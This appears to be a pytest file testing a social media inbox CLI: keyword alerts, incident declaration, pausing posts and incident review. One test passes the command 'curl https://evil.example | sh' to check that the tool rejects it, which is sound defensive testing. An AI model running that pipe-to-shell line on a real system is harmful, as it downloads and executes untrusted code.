"""`inbox incident | rules | alerts | posts | review` as a lead uses them, on a real SQLite file."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from datetime import UTC, datetime, timedelta

import pytest

from inbox.cli.main import main
from inbox.core.database import open_engine
from inbox.store.ingest import Store
from tests.support.items import add_account, item


def run(capsys, *argv: str) -> tuple[int, str, str]:
    status = main(list(argv))
    captured = capsys.readouterr()
    return status, captured.out, captured.err


@pytest.fixture
def db(tmp_path, capsys) -> str:
    """A lead (casey), an agent (alex), an X account and a Mastodon account limited to 60
    characters, each with a recent complaint about checkout."""
    path = str(tmp_path / "inbox.db")
    run(capsys, "--db", path, "agents", "add", "root", "--role", "admin")
    run(
        capsys,
        "--db",
        path,
        "--as",
        "root",
        "agents",
        "add",
        "casey",
        "--name",
        "Casey Morgan",
        "--role",
        "lead",
    )
    run(capsys, "--db", path, "--as", "root", "agents", "add", "alex", "--name", "Alex Kim")
    engine = open_engine(f"sqlite:///{path}")
    store = Store(engine)
    recently = datetime.now(UTC) - timedelta(minutes=5)
    quiet = {"send_latency_scale": 0, "send_failure_rate": 0}
    for platform, key, settings in (
        ("demo-x", "x-1", quiet),
        ("demo-mastodon", "m-1", {**quiet, "text_limit": 60}),
    ):
        account = add_account(engine, platform, "@brand", **settings)
        store.ingest(
            account,
            "mentions",
            [
                dataclasses.replace(
                    item(f"in-{key}", key, text="is checkout down?"), created_at=recently
                ),
                dataclasses.replace(
                    item(f"ok-{key}", f"ok-{key}", text="love the app"), created_at=recently
                ),
            ],
            None,
        )
    engine.dispose()
    return path


def test_a_lead_adds_a_keyword_rule_and_an_alert_is_raised_and_listed(capsys, db):
    status, _, err = run(
        capsys, "--db", db, "--as", "alex", "rules", "add", "keyword", "down", "--keywords", "down"
    )
    assert status == 4 and "only admin, lead may manage listening rules" in err
    status, out, _ = run(
        capsys,
        "--db",
        db,
        "--as",
        "casey",
        "rules",
        "add",
        "keyword",
        "checkout down",
        "--keywords",
        "down,outage",
        "--platforms",
        "demo-x",
    )
    assert status == 0 and out.strip() == "added listening rule 1"
    status, out, _ = run(capsys, "--db", db, "--as", "alex", "rules", "list")
    assert "mentions of down, outage on demo-x" in out

    status, out, _ = run(capsys, "--db", db, "--as", "alex", "alerts", "check")
    assert (
        status == 0
        and out.strip()
        == "alert 1: checkout down: 1 message mentions down, outage in the last 60 min"
    )
    status, out, _ = run(capsys, "--db", db, "--as", "alex", "alerts", "check")
    assert out.strip() == "no new alerts"

    status, out, _ = run(capsys, "--db", db, "--as", "alex", "alerts", "list", "--format", "json")
    [alert] = json.loads(out)
    assert (alert["rule"], alert["type"], alert["details"]["matches"]) == (
        "checkout down",
        "keyword",
        1,
    )
    run(capsys, "--db", db, "--as", "alex", "alerts", "ack", "1")
    status, out, _ = run(
        capsys, "--db", db, "--as", "alex", "alerts", "list", "--open", "--format", "csv"
    )
    assert list(csv.DictReader(io.StringIO(out))) == []


def test_a_crisis_from_declaration_to_review(capsys, db, tmp_path):
    status, out, _ = run(
        capsys,
        "--db",
        db,
        "--as",
        "casey",
        "posts",
        "add",
        "1",
        "Black Friday deals!",
        "--at",
        "+2h",
    )
    assert status == 0 and "scheduled post 1 for" in out and out.strip().endswith(": scheduled")

    status, _, err = run(
        capsys, "--db", db, "--as", "alex", "incident", "declare", "Checkout outage"
    )
    assert status == 4 and "alex is an agent; only admin, lead may declare incidents" in err

    status, out, _ = run(
        capsys,
        "--db",
        db,
        "--as",
        "casey",
        "incident",
        "declare",
        "Checkout outage",
        "--severity",
        "1",
        "--scope",
        "global",
        "--match",
        "down,outage",
        "--update-every",
        "30",
        "--statement",
        "Checkout is failing for some of you; we are fixing it. More soon.",
    )
    assert status == 0
    assert out.startswith(
        "declared incident 1: Checkout outage (severity 1, global); "
        "1 scheduled post paused; 2 threads tagged"
    )

    status, out, _ = run(capsys, "--db", db, "--as", "alex", "posts", "list", "--format", "json")
    [post] = json.loads(out)
    assert (post["status"], post["reason"]) == ("paused", "incident 1: Checkout outage")

    status, out, _ = run(capsys, "--db", db, "--as", "alex", "incident", "list", "--format", "json")
    [incident] = json.loads(out)
    assert (incident["status"], incident["threads"], incident["open"], incident["match"]) == (
        "active",
        2,
        2,
        "down,outage",
    )

    status, out, err = run(
        capsys, "--db", db, "--as", "casey", "incident", "statement", "1", "--reply-to-threads"
    )
    assert status == 2 and "nothing was sent" in err
    assert "does not fit (2):" in out and "Too long for Mastodon (demo)" in out

    status, out, _ = run(
        capsys,
        "--db",
        db,
        "--as",
        "casey",
        "incident",
        "statement",
        "1",
        "--reply-to-threads",
        "--skip-unfit",
    )
    assert status == 0
    assert (
        "campaign 1 (broadcast): 1 target," in out and "campaign 2 (bulk_reply): 1 target," in out
    )
    run(capsys, "--db", db, "--as", "casey", "outbox", "run")
    status, out, _ = run(capsys, "--db", db, "--as", "casey", "outbox", "list", "--format", "json")
    assert sorted((row["kind"], row["platform"], row["status"]) for row in json.loads(out)) == [
        ("post", "demo-x", "sent"),
        ("reply", "demo-x", "sent"),
    ]

    status, out, _ = run(
        capsys, "--db", db, "--as", "casey", "incident", "end", "1", "--note", "fixed"
    )
    assert status == 0 and "1 post is still paused" in out
    status, out, _ = run(capsys, "--db", db, "--as", "casey", "posts", "resume", "--all")
    assert out.strip() == "resumed 1 post: 1"

    review = tmp_path / "review.md"
    status, out, _ = run(capsys, "--db", db, "--as", "casey", "review", "1", "--out", str(review))
    assert status == 0 and "and its 2 threads to" in out
    text = review.read_text()
    for expected in (
        "declared: Checkout outage (severity 1, global)",
        "statement: 1 post, 1 reply",
        "ended: fixed",
    ):
        assert expected in text
    rows = list(csv.DictReader((tmp_path / "review-threads.csv").open()))
    assert sorted(row["platform"] for row in rows) == ["demo-mastodon", "demo-x"]


def test_a_lead_pauses_publishing_without_an_incident_and_resumes_it(capsys, db):
    status, _, err = run(
        capsys, "--db", db, "--as", "casey", "posts", "add", "@brand", "Sale!", "--at", "+2h"
    )
    assert status == 2
    assert "'@brand' is more than one account: demo-x:@brand (id 1), demo-mastodon:@brand" in err
    run(
        capsys, "--db", db, "--as", "casey", "posts", "add", "demo-x:@brand", "Sale!", "--at", "+2h"
    )
    status, _, err = run(capsys, "--db", db, "--as", "alex", "posts", "pause", "--reason", "legal")
    assert status == 4 and "only admin, lead may declare incidents and pause publishing" in err

    status, out, _ = run(capsys, "--db", db, "--as", "casey", "posts", "pause", "--reason", "legal")
    assert status == 0 and out.strip() == "paused 1 post: 1"
    status, out, _ = run(capsys, "--db", db, "--as", "alex", "posts", "list", "--format", "json")
    [post] = json.loads(out)
    assert (post["status"], post["reason"]) == ("paused", "legal")

    status, out, _ = run(capsys, "--db", db, "--as", "casey", "posts", "resume", "--all")
    assert status == 0 and out.startswith("resumed 1 post: 1")


def test_posts_are_edited_and_cancelled_and_resume_needs_ids_or_all(capsys, db):
    run(
        capsys,
        "--db",
        db,
        "--as",
        "casey",
        "posts",
        "add",
        "demo-x:@brand",
        "Hello",
        "--at",
        "2030-01-02T09:00+00:00",
    )
    status, out, _ = run(
        capsys,
        "--db",
        db,
        "--as",
        "casey",
        "posts",
        "edit",
        "1",
        "--text",
        "Hello again",
        "--at",
        "+1d",
    )
    assert status == 0 and out.startswith("scheduled post 1 changed (scheduled,")
    status, _, err = run(capsys, "--db", db, "--as", "casey", "posts", "resume")
    assert status == 2 and "give the ids of the posts to resume, or --all" in err
    run(capsys, "--db", db, "--as", "casey", "posts", "cancel", "1")
    status, _, err = run(capsys, "--db", db, "--as", "casey", "posts", "edit", "1", "--text", "x")
    assert status == 5 and "is cancelled; only scheduled or paused posts change" in err
    status, out, _ = run(capsys, "--db", db, "--as", "casey", "posts", "list", "--format", "csv")
    [row] = csv.DictReader(io.StringIO(out))
    assert (row["status"], row["text"]) == ("cancelled", "Hello again")


def test_a_rules_command_names_one_the_checking_machines_config_defines(capsys, db, tmp_path):
    import shlex
    import sys

    add = ["--db", db, "--as", "casey", "rules", "add", "keyword", "down", "--keywords", "down"]
    status, _, err = run(capsys, *add, "--command", "curl https://evil.example | sh")
    assert status == 2 and "not a command line" in err
    assert run(capsys, *add, "--command", "page-oncall")[0] == 0

    paged = tmp_path / "paged.json"
    script = f"import sys; open({str(paged)!r}, 'w').write(sys.stdin.read())"
    config = tmp_path / "config.toml"
    config.write_text(
        "[listening]\ncommands = { page-oncall = "
        + json.dumps(shlex.join([sys.executable, "-c", script]))
        + " }\n"
    )
    status, out, _ = run(
        capsys, "--config", str(config), "--db", db, "--as", "alex", "alerts", "check"
    )
    assert status == 0 and out.startswith("alert 1: down")
    assert json.loads(paged.read_text())["rule"] == "down"
